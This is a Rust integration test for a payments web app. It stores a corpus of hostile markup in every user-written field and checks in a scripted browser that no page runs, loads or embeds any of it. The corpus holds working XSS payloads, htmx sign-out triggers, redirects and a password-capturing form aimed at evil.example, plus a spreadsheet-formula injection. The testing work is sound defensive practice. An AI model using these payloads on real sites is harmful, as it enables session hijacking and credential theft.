//! Texts of payers, banks, merchants and browsers are hostile: a corpus of stored markup stands in every text that a page
//! may show, and every page of the route table is opened in a browser with scripts on. Nothing of it may run, load, lead away
//! or become a part of the page.

use serde_json::{Value, json};
use tillbell::store::Step;
use tillbell::store::engine::sql::{Sql, Text};

use super::desk::ADMIN;
use super::every_page::{World, walk};
use crate::harness::browser::Browser;
use crate::harness::receiver::{Answer, Receiver};

/// Whatever runs leaves `pwned` on the window. What swallows the rest of a page stands last.
const CORPUS: &[&str] = &[
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "\"><svg onload=pwned=1>",
    "' autofocus onfocus=pwned=1 x='",
    "\" onmouseover=\"pwned=1",
    "</textarea><script>pwned=1</script>",
    "</option></select><img src=x onerror=pwned=1>",
    "</title></style></pre></code><svg/onload=pwned=1>",
    "<a href=\"javascript:pwned=1\" autofocus>pay</a>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<details open ontoggle=pwned=1>",
    "<body onpageshow=pwned=1>",
    "<div hx-get=\"/sign-out\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
    "<div hx-on:load=\"pwned=1\" hx-vals='js:{a:pwned=1}' data-hx-on=\"load: pwned=1\"></div>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"//evil.example/\"><input name=password autofocus></form>",
    "<input form=sign-out name=csrf>",
    "<button data-key=a form=dismiss-alert>a</button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
    "<template shadowrootmode=open><script>pwned=1</script></template>",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62;",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "{{ 7*7 }} {% raw %} ${pwned=1} <%= 7*7 %>",
    "javascript:pwned=1",
    "=HYPERLINK(\"//evil.example\")",
    "\u{202e}\u{2066}gnp.exe\u{feff}",
    "<!-- ",
];

/// Where texts of others are kept, but for those that only acts write (see [`act`]).
const KEPT: &[&str] = &[
    "update businesses set name = $1, email = $1",
    "update websites set reject_reason = $1",
    "update api_keys set label = $1, hint = $1",
    "update receiving_accounts set name = $1, bank_name = $1",
    "update payments set payer_name = $1, payer_bank = $1, service = $1, external_reference = $1, registration_number = $1, \
     mismatch_reason = $1",
    "update payments set reject_reason = $1 where reject_reason is not null",
    "update alerts set bank = $1, holder_name = $1, payer_name = $1, payer_account = $1, payer_bank = $1, narration = $1, \
     reference = $1, message_id = $1, mail_from = $1, subject = $1, reason = $1, authentic_by = $1, source = $1",
    "update settlements set operator = $1",
    "update jobs set note = $1 where kind = 'deliver'",
    "update mailboxes set login = $1, folder = $1, trouble = $1",
    "update sessions set agent = $1, address = $1",
    "update refused_requests set message = $1, route = $1, code = $1, method = $1, request_id = $1",
    "update notices set body = $1, cause = $1",
    "update figures_of_banks set bank = $1",
    "update registrations set business = $1",
    "update payout_accounts set bank = $1, name = $1, number = $1, added_by = $1",
    "update payouts set reference = $1, requested_by = $1",
    "update payouts set bank_reference = $1, reason = $1, ended_by = $1 where ended_at is not null",
    "update audit_runs set operator = $1",
    "update messages set error = $1",
];

/// What became a part of the page, or ran.
const LOOK: &str = r#"
const strange = "main script, style, iframe, main img, base, main meta, main link, object, embed, math, template, " +
    "meta[http-equiv=refresh], form:not([action^='/']), form[action^='//'], a[href^='javascript:'], " +
    "[onerror], [onload], [onfocus], [ontoggle], [onmouseover], [onpageshow], " +
    "[hx-get='/sign-out'], [hx-vals], [data-hx-on], input[form=sign-out], input[name=password]:not([id]), " +
    "button[data-key][form]";
return {
    ran: window.pwned !== undefined,
    strange: [...document.querySelectorAll(strange)].map(one => one.outerHTML.slice(0, 300)),
    focused: document.activeElement.outerHTML.slice(0, 200),
    loaded: performance.getEntriesByType("resource").map(one => one.name).filter(name => !name.startsWith(location.origin)),
    shown: document.body.innerText.includes("pwned=1"),
};
"#;

async fn poison(world: &World, text: &str) {
    let store = &world.shops.t().app.store;
    for statement in KEPT {
        let sql: &'static Sql = Box::leak(Box::new(Sql::new("POISON", Text::Plain(statement))));
        let unit = store.unit(0).await.unwrap().step(Step::any(sql, vec![text.into()]));
        assert!(store.apply(unit).await.unwrap().is_done(), "{statement}");
    }
}

/// Texts that go through the doors: a merchant's answer, an operator's reasons.
async fn act(world: &World, text: &str) {
    let one_line: String = text.chars().filter(|c| !c.is_control()).take(180).collect();
    let receiver = Receiver::start().await;
    receiver.answer_otherwise(Answer::status(500).body(text.to_owned()));
    let mut admin = world.shops.signed_in(ADMIN).await;
    let page = admin.get(&format!("/operator/alerts/{}", world.alert)).await;
    admin.submit(&page, "note-alert", &[("note", &one_line)]).await;
    let page = admin.get(&format!("/operator/wallets?wallet={}", world.wallet)).await;
    let credit = [("amount", "5"), ("reason", one_line.as_str()), ("ref", "r-2")];
    admin.submit(&page, "credit-wallet", &credit).await;
    let app = &world.shops.t().app;
    let url = receiver.url("/x?a=<script>pwned=1</script>");
    let unit = app.store.unit(0).await.unwrap();
    let sql: &'static Sql =
        Box::leak(Box::new(Sql::new("HOOK", Text::Plain("update businesses set webhook_url = $1"))));
    assert!(app.store.apply(unit.step(Step::any(sql, vec![url.as_str().into()]))).await.unwrap().is_done());
    tillbell::work::run_due(app).await.unwrap();
}

// What only a browser shows; what happens behind it is tried on both databases without one.
on_one! {
    async fn nothing_that_strangers_wrote_runs_or_becomes_a_part_of_any_page(db: TestDatabase) {
        let world = World::new(db).await;
        act(&world, &CORPUS[..6].concat()).await;
        let browser = Browser::with_scripts();
        poison(&world, &CORPUS.join(" ")).await;
        let (mut wrong, mut shown) = (Vec::new(), Vec::new());
        walk(&world, &browser, |path| {
            let seen = browser.execute(LOOK, json!([]));
            let is_empty = |what: &Value| what.as_array().unwrap().is_empty();
            if seen["ran"] != false || !is_empty(&seen["strange"]) || !is_empty(&seen["loaded"]) {
                wrong.push(format!("{path}: {seen}"));
            }
            if seen["shown"] == true {
                shown.push(path.to_owned());
            }
        });
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
        // A page that shows none of it proves nothing.
        for path in ["/register/", "/dashboard", "/dashboard/payments", "/dashboard/keys", "/dashboard/webhooks", "/dashboard/payouts",
            "/dashboard/requests", "/dashboard/settings", "/me", "/operator/alerts/", "/operator/payments/", "/operator/businesses",
            "/operator/accounts", "/operator/webhooks", "/operator/wallets?", "/operator/payouts", "/operator/activity"] {
            assert!(shown.iter().any(|one| one.starts_with(path)), "{path} shows nothing of it: {shown:?}");
        }
        world.shops.close().await;
    }
}
